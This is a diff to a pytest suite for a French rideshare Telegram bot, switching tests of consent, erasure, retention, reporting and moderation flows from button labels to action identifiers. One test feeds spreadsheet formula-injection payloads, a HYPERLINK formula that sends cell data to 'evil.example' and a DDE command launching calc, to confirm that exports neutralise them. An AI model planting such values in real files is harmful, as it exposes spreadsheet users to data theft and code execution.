@@ -8,11 +8,10 @@ from datetime import timedelta
 import pytest
 
 from bot.services import consents
+from handlers import keyboards as kb
 from tests.conftest import OPERATORS, RunningBot
 from tests.fakebot import FakeUser
-from tests.test_find_flow import describe_need, driver
-from tests.test_offer_flow import register_trip
-from tests.test_operators import team
+from tests.setups import describe_need, driver, reads, register_trip, team
 
 
 async def registered_by_phone(
@@ -23,30 +22,31 @@ async def registered_by_phone(
     await operator.command("demande" if need else "conducteur")
     await operator.send(name)
     await operator.send(phone)
-    await operator.press("Oui")
+    kind = kb.FIND if need else kb.OFFER
+    await operator.press_doing(kind, "shows:yes")
     if not agreed:
-        await operator.press("Non")
+        await operator.press_doing(kind, "agreed:no")
         return
-    await operator.press("✅ Oui, la personne est d'accord")
+    await operator.press_doing(kind, "agreed:yes")
     await operator.send("Cahors")
     await operator.send("Figeac")
     if need:
         await operator.send("mardi")
-        await operator.press("🏁 Arriver avant une heure")
+        await operator.press_doing(kb.FIND, "mode:arrive_before")
         await operator.send("9h")
-        await operator.press("➡️ Pas de retour")
-        await operator.press("🩺 Santé")
-        await operator.press("Aucun")
-        await operator.press("✅ Chercher un conducteur")
+        await operator.press_doing(kb.FIND, "back:none")
+        await operator.press_doing(kb.FIND, "purpose:health")
+        await operator.press_doing(kb.FIND, "special:none")
+        await operator.press_doing(kb.FIND, "confirm")
         return
-    await operator.press("🔁 Chaque semaine")
-    await operator.press("Lun → ven")
-    await operator.press("✔️ Valider les jours")
+    await operator.press_doing(kb.OFFER, "often:weekly")
+    await operator.press_doing(kb.OFFER, "days:work")
+    await operator.press_doing(kb.OFFER, "days:ok")
     await operator.send("7h30")
-    await operator.press("Pas de retour")
-    await operator.press("3")
-    await operator.press("Passer")
-    await operator.press("✅ Enregistrer ce trajet")
+    await operator.press_doing(kb.OFFER, "noreturn")
+    await operator.press_doing(kb.OFFER, "seats:3")
+    await operator.press_doing(kb.OFFER, "skipnote")
+    await operator.press_doing(kb.OFFER, "confirm")
 
 
 # 1. Consent where it is due.
@@ -65,7 +65,7 @@ async def test_a_need_is_kept_only_once_its_person_agreed(
     assert asked.buttons == buttons
     await marie.send("Cahors")  # typed instead of pressing: asked again, nothing lost
     assert marie.last().buttons == buttons
-    await marie.press("Non merci")
+    await marie.press_doing(kb.FIND, "consent:no")
     assert "rien n'est enregistré" in marie.last().text
     assert await bot.rows("SELECT * FROM consents") == []
     assert await bot.rows("SELECT * FROM conversation_states") == []
@@ -85,7 +85,7 @@ async def test_a_need_is_kept_only_once_its_person_agreed(
     monkeypatch.setitem(consents.VERSIONS, "need", "2027-01-01")  # the text changed
     await marie.command("chercher")
     assert marie.last().buttons == buttons
-    await marie.press("✅ J'accepte")
+    await marie.press_doing(kb.FIND, "consent:yes")
     rows = await bot.rows("SELECT version FROM consents WHERE topic = 'need' ORDER BY id")
     assert [row["version"] for row in rows] == ["2026-12-01", "2027-01-01"]
     bot.assert_clean()
@@ -130,20 +130,20 @@ async def test_without_the_sensitive_part_the_purpose_and_special_needs_are_not_
     await driver(bot, 505, "Jean", username="jean_m")
     paul = bot.fake.user(506, "Paul", last_name="Cros")
     await paul.command("chercher")
-    await paul.press("✅ Oui, sans motif ni aide")
+    await paul.press_doing(kb.FIND, "consent:basic")
     await paul.send("Cahors")
     await paul.send("Figeac")
     await paul.send("mardi")
-    await paul.press("🏁 Arriver avant une heure")
+    await paul.press_doing(kb.FIND, "mode:arrive_before")
     await paul.send("9h")
     mark = paul.mark()
-    await paul.press("➡️ Pas de retour")
+    await paul.press_doing(kb.FIND, "back:none")
     said = paul.texts_since(mark)
     assert any("je ne vous les demande pas" in text for text in said)
     assert "Pour quoi" not in "".join(said) and "🎯 Autre" in paul.last().text
-    await paul.press("✏️ Motif")  # correcting it: still not asked
+    await paul.press_doing(kb.FIND, "edit:purpose")  # correcting it: still not asked
     assert "je ne vous les demande pas" in paul.messages()[-2].text
-    await paul.press("✅ Chercher un conducteur")
+    await paul.press_doing(kb.FIND, "confirm")
     [need] = await bot.rows("SELECT purpose, special_needs FROM needs")
     assert need == {"purpose": "other", "special_needs": ""}
     topics = await bot.rows("SELECT topic FROM consents WHERE person_id = 2")
@@ -179,20 +179,20 @@ async def test_a_driver_typed_in_by_the_team_who_later_shares_his_contact_is_one
     await registered_by_phone(olga, "Roger Lafon", "06 12 34 56 78", need=False)
     roger = bot.fake.user(511, "Roger", last_name="Lafon")
     await roger.command("proposer")
-    await roger.press("✅ J'accepte")
+    await roger.press_doing(kb.OFFER, "consent:yes")
     await roger.send("Gramat")
     await roger.send("Cahors")
-    await roger.press("🔁 Chaque semaine")
-    await roger.press("Lun → ven")
-    await roger.press("✔️ Valider les jours")
+    await roger.press_doing(kb.OFFER, "often:weekly")
+    await roger.press_doing(kb.OFFER, "days:work")
+    await roger.press_doing(kb.OFFER, "days:ok")
     await roger.send("8h")
-    await roger.press("Pas de retour")
-    await roger.press("2")
-    await roger.press("Passer")
-    await roger.press("📞 Aussi mon téléphone")
+    await roger.press_doing(kb.OFFER, "noreturn")
+    await roger.press_doing(kb.OFFER, "seats:2")
+    await roger.press_doing(kb.OFFER, "skipnote")
+    await roger.press_doing(kb.OFFER, "contact:phone")
     await roger.send_contact("33612345678")
-    await roger.press("Oui")
-    await roger.press("✅ Enregistrer ce trajet")
+    await roger.press_doing(kb.OFFER, "show:yes")
+    await roger.press_doing(kb.OFFER, "confirm")
 
     people = await bot.rows("SELECT id, telegram_user_id, phone FROM people WHERE phone != ''")
     assert [(p["telegram_user_id"], p["phone"]) for p in people] == [(511, "+33612345678")]
@@ -219,7 +219,7 @@ async def test_someone_the_team_already_knows_by_phone_is_not_registered_twice(
     # Jeanne shared her number on Telegram; the team types it in: her need reaches her there.
     jeanne = bot.fake.user(513, "Jeanne", last_name="Roux")
     await jeanne.command("proposer")
-    await jeanne.press("✅ J'accepte")
+    await jeanne.press_doing(kb.OFFER, "consent:yes")
     await bot.rows("UPDATE people SET phone = '+33699999999' WHERE telegram_user_id = 513")
     await jeanne.command("annuler")
     await registered_by_phone(olga, "Jeanne Roux", "06 99 99 99 99")
@@ -236,8 +236,8 @@ async def test_my_data_is_a_file_and_a_readable_summary(bot: RunningBot) -> None
     jean = await driver(bot, 521, "Jean", username="jean_m")
     marie = bot.fake.user(522, "Marie", last_name="Delpech", username="marie_d")
     await describe_need(marie)
-    await marie.press(marie.buttons()[0])
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     await marie.command("proposer")  # a draft in progress
     await marie.send("Cahors")
 
@@ -258,7 +258,7 @@ async def test_my_data_is_a_file_and_a_readable_summary(bot: RunningBot) -> None
     assert need["purpose"] == "health" and need["destination_name"] == "Figeac"
     assert [e["kind"] for e in need["history"]][:2] == ["created", "asked_driver"]
     assert need["history"][0]["by_whom"] == "you"
-    assert "driver" in [e["by_whom"] for e in need["history"]]
+    assert reads(bot, "privacy.column.driver", "en") in [e["by_whom"] for e in need["history"]]
     [introduction] = data["introductions"]
     assert introduction["you_were"] == "passenger" and introduction["with_whom"] == "Jean Martin"
     assert introduction["status"] == "accepted"
@@ -284,8 +284,8 @@ async def test_forget_me_erases_everything_and_tells_the_driver(bot: RunningBot)
     jean = await driver(bot, 531, "Jean", username="jean_m")
     marie = bot.fake.user(532, "Marie", last_name="Delpech", username="marie_d")
     await describe_need(marie)
-    await marie.press(marie.buttons()[0])
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     await marie.command("proposer")
     await marie.send("Cahors")  # a draft in progress
 
@@ -293,14 +293,14 @@ async def test_forget_me_erases_everything_and_tells_the_driver(bot: RunningBot)
     assert "Tout effacer ?" in marie.last().text
     assert marie.last().buttons == ["🗑 Oui, tout effacer", "Non, garder"]
     mark = marie.mark()
-    await marie.press("Non, garder")
+    await marie.press_doing(kb.FORGET, "forget:no")
     # Nothing erased (the question's message says so), and her trip's question comes back.
-    assert any(m.text == "Rien n'a été effacé." for m in marie.messages())
+    assert any(m.text == reads(bot, "privacy.forget_cancelled") for m in marie.messages())
     assert "Êtes-vous d'accord ?" in marie.texts_since(mark)[-1]  # where /proposer was
     assert len(await bot.rows("SELECT * FROM conversations")) == 1  # Marie's draft
     mark = jean.mark()
     await marie.command("forgetme")
-    await marie.press("🗑 Oui, tout effacer")
+    await marie.press_doing(kb.FORGET, "forget:yes")
     assert "Mobilot a effacé tout ce qui vous concerne" in marie.last().text
     await marie.press_data("pv:forget:yes:2")  # pressed again (a double press)
     assert marie.callback_answers()[-1]["text"].startswith("Ce bouton")
@@ -339,11 +339,11 @@ async def test_a_driver_who_is_forgotten_frees_the_passenger_for_the_next_one(
     await driver(bot, 542, "Jeanne", time="7h40")
     marie = bot.fake.user(543, "Marie", last_name="Delpech")
     await describe_need(marie)
-    await marie.press("🚗 Demander à Jean M. (mar. 7h30)")
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     mark = marie.mark()
     await jean.command("oublier")
-    await jean.press("🗑 Oui, tout effacer")
+    await jean.press_doing(kb.FORGET, "forget:yes")
     told = "\n".join(marie.texts_since(mark))
     assert "Jeanne M." in told  # the next driver is offered
     [trip] = await bot.rows("SELECT status, note FROM trips WHERE driver_id = 1")
@@ -365,7 +365,7 @@ async def test_the_team_erases_someone_who_phoned(bot: RunningBot) -> None:
     assert "Personne n'a été inscrit par l'équipe avec le numéro" in olga.last().text
     await olga.command("oublier", "05 65 00 00 00")
     assert "Effacer tout ce qui concerne Yvette Combes (05 65 00 00 00)" in olga.last().text
-    await olga.press("🗑 Oui, tout effacer")
+    await olga.press_doing(kb.PRIVACY, "caller")
     assert olga.last().text == "C'est fait : tout ce qui concernait Yvette Combes est effacé."
     assert "Olga Bru a effacé, à sa demande, tout ce qui concernait Yvette Combes" in (
         bot.operators.last().text
@@ -376,7 +376,7 @@ async def test_the_team_erases_someone_who_phoned(bot: RunningBot) -> None:
     await nadia.command("oublier", "06 12 34 56 78")
     assert "Tout effacer ?" in nadia.last().text
     await nadia.press_data("pv:caller:1")
-    assert nadia.callback_answers()[-1]["text"] == "Réservé à l'équipe locale de Mobilot."
+    assert nadia.callback_answers()[-1]["text"] == reads(bot, "operators.only")
     bot.assert_clean()
 
 
@@ -389,8 +389,8 @@ async def test_old_needs_lose_their_details_and_inactive_people_are_asked_then_f
     olga, _, _ = team(bot)
     lina = bot.fake.user(551, "Lina", last_name="Vern")
     await describe_need(lina, origin="Rocamadour")
-    await bot.operators.press(olga, "🔒 Clore")
-    await bot.operators.press(olga, "✅ Résolue autrement")
+    await bot.operators.press_doing(olga, kb.OPERATOR, "close")
+    await bot.operators.press_doing(olga, kb.OPERATOR, "close:solved_other")
     await olga.command("stats")  # Olga keeps using the bot
     bot._set_time(bot.clock.current + timedelta(days=365 * 2 + 30))
     await olga.command("stats")
@@ -421,8 +421,8 @@ async def test_someone_who_answers_stays(bot: RunningBot) -> None:
     await lina.command("start")
     bot._set_time(bot.clock.current + timedelta(days=365 * 3 + 30))
     await bot.tick()
-    await lina.press("✅ Je reste")
-    assert lina.last().text == "Merci ! Votre compte est gardé."
+    await lina.press_doing(kb.PRIVACY, "stay")
+    assert lina.last().text == reads(bot, "privacy.stayed")
     await bot.later(days=40)
     [person] = await bot.rows("SELECT forgotten_at FROM people")
     assert person["forgotten_at"] is None
@@ -444,9 +444,9 @@ async def test_someone_who_phoned_is_asked_through_the_team(bot: RunningBot) -> 
     assert [c.text.split(" (")[0] for c in calls] == ["📞 Yvette Combes", "📞 Roger Lafon"]
     assert "(05 65 00 00 00)" in calls[0].text
     assert calls[0].buttons == ["✅ Cette personne reste", "🗑 Tout effacer"]
-    await bot.operators.press(olga, "✅ Cette personne reste", message=calls[0])
+    await bot.operators.press_doing(olga, kb.PRIVACY, "stay", message=calls[0])
     assert "C'est noté : Yvette Combes reste." in calls[0].text
-    await bot.operators.press(olga, "🗑 Tout effacer", message=calls[1])
+    await bot.operators.press_doing(olga, kb.PRIVACY, "caller", message=calls[1])
     assert "tout ce qui concernait Roger Lafon est effacé" in calls[1].text
     await bot.later(days=31)
     forgotten = await bot.rows("SELECT id FROM people WHERE forgotten_at IS NOT NULL")
@@ -462,18 +462,18 @@ async def test_exports_neutralise_formulas(bot: RunningBot) -> None:
     olga, _, _ = team(bot)
     evil = bot.fake.user(571, '=HYPERLINK("http://evil.example/?x="&A1,"click")')
     await evil.command("proposer")
-    await evil.press("✅ J'accepte")
+    await evil.press_doing(kb.OFFER, "consent:yes")
     await evil.send("Cahors")
     await evil.send("Figeac")
-    await evil.press("🔁 Chaque semaine")
-    await evil.press("Lun → ven")
-    await evil.press("✔️ Valider les jours")
+    await evil.press_doing(kb.OFFER, "often:weekly")
+    await evil.press_doing(kb.OFFER, "days:work")
+    await evil.press_doing(kb.OFFER, "days:ok")
     await evil.send("7h30")
-    await evil.press("Pas de retour")
-    await evil.press("3")
+    await evil.press_doing(kb.OFFER, "noreturn")
+    await evil.press_doing(kb.OFFER, "seats:3")
     await evil.send("=cmd|' /C calc'!A0")
-    await evil.press("Telegram seulement")
-    await evil.press("✅ Enregistrer ce trajet")
+    await evil.press_doing(kb.OFFER, "contact:tg")
+    await evil.press_doing(kb.OFFER, "confirm")
     for name in ("+plus", "-minus", "@at", "\tTab"):
         await bot.rows(
             "INSERT INTO people (display_name, created_at, updated_at) VALUES (?, '', '')", name
@@ -512,18 +512,18 @@ async def test_a_needs_history_is_readable_in_the_group(bot: RunningBot) -> None
     lina = bot.fake.user(582, "Lina", last_name="Vern")
     await describe_need(lina, origin="Lacapelle-Marival")
     post = bot.operators.last()
-    await bot.operators.press(olga, "🙋 Je m'en occupe", message=post)
+    await bot.operators.press_doing(olga, kb.OPERATOR, "claim", message=post)
     bot._set_time(bot.clock.current + timedelta(minutes=5))
-    await bot.operators.press(olga, "🔒 Clore", message=post)
-    await bot.operators.press(olga, "❌ Non résolue : pas de conducteur", message=post)
-    await bot.operators.press(omar, "📜 Historique", message=post)
+    await bot.operators.press_doing(olga, kb.OPERATOR, "close", message=post)
+    await bot.operators.press_doing(olga, kb.OPERATOR, "close:no_driver", message=post)
+    await bot.operators.press_doing(omar, kb.OPERATOR, "history", message=post)
     diary = bot.operators.last().text
     assert diary.startswith("📜 Historique de la demande n° 1")
     assert "lundi 23 novembre, 10h00 — demande enregistrée (Lina Vern)" in diary
     assert "10h00 — prise en charge (Olga Bru)" in diary
     assert "10h05 — close : Non résolue : pas de conducteur (Olga Bru)" in diary
     await bot.operators.press_data(nadia, "op:1:history", message=post)
-    assert nadia.callback_answers()[-1]["text"] == "Réservé à l'équipe locale de Mobilot."
+    assert nadia.callback_answers()[-1]["text"] == reads(bot, "operators.only")
     assert bot.operators.last().text == diary
     assert OPERATORS
     bot.assert_clean()
@@ -539,17 +539,17 @@ async def test_a_report_reaches_the_team_which_suspends_and_lifts(bot: RunningBo
     await marie.command("signaler")
     assert "il n'y a personne à signaler" in marie.last().text
     await describe_need(marie)
-    await marie.press(marie.buttons()[0])
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
 
     jean_mark = jean.mark()
     await marie.command("signaler")
     assert marie.last().buttons == ["🚩 Jean M. (demande n° 1)"]
     await marie.send("lui")  # text where a button is expected
     assert "Répondez avec les boutons ci-dessus" in marie.last().text
-    await marie.press("🚩 Jean M. (demande n° 1)")
-    assert marie.last().buttons[0] == "🚫 Rendez-vous manqué"
-    await marie.press("🚫 Rendez-vous manqué")
+    await marie.press_doing(kb.REPORT, "pick", naming="Jean M.")
+    assert marie.last().buttons[0] == reads(bot, "privacy.reason.no_show")
+    await marie.press_doing(kb.REPORT, "reason:no_show")
     await marie.send("Personne au rendez-vous, <et> pas de nouvelles")
     assert "l'équipe locale a reçu votre signalement" in marie.last().text
     report = bot.operators.last()
@@ -560,9 +560,9 @@ async def test_a_report_reaches_the_team_which_suspends_and_lifts(bot: RunningBo
     assert report.buttons == ["⏸ Suspendre cette personne"]
     assert jean.texts_since(jean_mark) == []  # Jean is not told
 
-    await bot.operators.press(nadia, "⏸ Suspendre cette personne", message=report)
-    assert nadia.callback_answers()[-1]["text"] == "Réservé à l'équipe locale de Mobilot."
-    await bot.operators.press(olga, "⏸ Suspendre cette personne", message=report)
+    await bot.operators.press_doing(nadia, kb.TRUST, "suspend", message=report)
+    assert nadia.callback_answers()[-1]["text"] == reads(bot, "operators.only")
+    await bot.operators.press_doing(olga, kb.TRUST, "suspend", message=report)
     assert "mis votre compte en pause" in jean.last().text
     suspended = bot.operators.last()
     assert "Olga Bru a suspendu Jean Martin" in suspended.text
@@ -571,7 +571,7 @@ async def test_a_report_reaches_the_team_which_suspends_and_lifts(bot: RunningBo
     lina = bot.fake.user(593, "Lina", last_name="Vern")
     await describe_need(lina)
     assert "Jean M." not in lina.last().text  # no more matches for him
-    await bot.operators.press(olga, "▶️ Lever la suspension", message=suspended)
+    await bot.operators.press_doing(olga, kb.TRUST, "lift", message=suspended)
     assert "fonctionne de nouveau normalement" in jean.last().text
     await describe_need(lina, when="jeudi")
     assert "Jean M." in lina.last().text
@@ -585,13 +585,13 @@ async def test_two_people_who_reported_each_other_are_never_matched_again(
     await driver(bot, 602, "Jeanne", time="7h40")
     marie = bot.fake.user(603, "Marie", last_name="Delpech")
     await describe_need(marie)
-    await marie.press("🚗 Demander à Jean M. (mar. 7h30)")
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     for reporter in (marie, jean):
         await reporter.command("signaler")
-        await reporter.press(reporter.buttons()[0])
-        await reporter.press("😠 Comportement déplacé")
-        await reporter.press("Envoyer sans rien ajouter")
+        await reporter.press_doing(kb.REPORT, "pick")  # the only ride to report
+        await reporter.press_doing(kb.REPORT, "reason:behaviour")
+        await reporter.press_doing(kb.REPORT, "skip")
     await describe_need(marie, when="jeudi")
     offered = marie.last().text
     assert "Jeanne M." in offered and "Jean M. —" not in offered
@@ -608,12 +608,12 @@ async def test_a_passenger_who_reported_her_driver_is_never_offered_him_again(
     await driver(bot, 608, "Jeanne", time="7h40")
     marie = bot.fake.user(609, "Marie", last_name="Delpech")
     await describe_need(marie)
-    await marie.press("🚗 Demander à Jean M. (mar. 7h30)")
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     jean_mark = jean.mark()
     await marie.command("signaler")
-    await marie.press("🚩 Jean M. (demande n° 1)")
-    await marie.press("😠 Comportement déplacé")
+    await marie.press_doing(kb.REPORT, "pick", naming="Jean M.")
+    await marie.press_doing(kb.REPORT, "reason:behaviour")
     await marie.send("Je ne veux plus jamais voyager avec lui")
     assert "l'équipe locale a reçu votre signalement" in marie.last().text
     # Nobody suspends Jean: her very next search, the same trip, does not offer him.
@@ -634,8 +634,8 @@ async def test_report_buttons_from_before_the_upgrade_or_a_finished_report_are_o
     jean = await driver(bot, 605, "Jean", username="jean_m")
     marie = bot.fake.user(606, "Marie", last_name="Delpech")
     await describe_need(marie)
-    await marie.press(marie.buttons()[0])
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     # /signaler's buttons as they were written before it moved to Mobilot's own conversations.
     for data in ("ts:rp:1", "ts:rr:no_show", "ts:rw:skip"):
         await marie.press_data(data)
@@ -644,8 +644,8 @@ async def test_report_buttons_from_before_the_upgrade_or_a_finished_report_are_o
     markup = marie.last().reply_markup
     assert markup is not None
     old_pick = markup["inline_keyboard"][0][0]["callback_data"]
-    await marie.press("🚩 Jean M. (demande n° 1)")
-    await marie.press("Autre chose")
+    await marie.press_doing(kb.REPORT, "pick", naming="Jean M.")
+    await marie.press_doing(kb.REPORT, "reason:other")
     await marie.send("1")  # typed words are the report's words, not a choice
     assert "l'équipe locale a reçu votre signalement" in marie.last().text
     assert "« 1 »" in bot.operators.last().text
@@ -660,8 +660,8 @@ async def test_retention_unlinks_old_needs_and_introductions_from_people(bot: Ru
     jean = await driver(bot, 611, "Jean", username="jean_m")
     marie = bot.fake.user(612, "Marie", last_name="Delpech")
     await describe_need(marie)
-    await marie.press(marie.buttons()[0])
-    await jean.press("✅ J'accepte")
+    await marie.press_doing(kb.NEED, "ask", naming="Jean M.")
+    await jean.press_doing(kb.INTRO, "yes")
     bot._set_time(bot.clock.current + timedelta(days=365 * 2 + 30))
     await marie.command("start")  # both still use the bot
     await jean.command("start")
